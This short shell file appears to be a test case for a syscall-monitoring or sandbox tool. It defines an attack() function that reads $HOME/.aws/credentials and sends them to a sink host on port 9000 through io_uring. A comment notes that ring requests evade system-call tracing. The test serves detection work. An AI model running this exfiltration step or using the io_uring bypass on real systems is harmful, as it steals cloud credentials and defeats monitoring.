# SPDX-License-Identifier: Apache-2.0
TITLE="open, read, connect and send by io_uring"
ROW="R10 N22 E17"
attack() { "$PROVOKE/uring" plain "$HOME/.aws/credentials" "$SINK4" 9000; }
COVERAGE=full WHY="requests of a ring are no system calls"
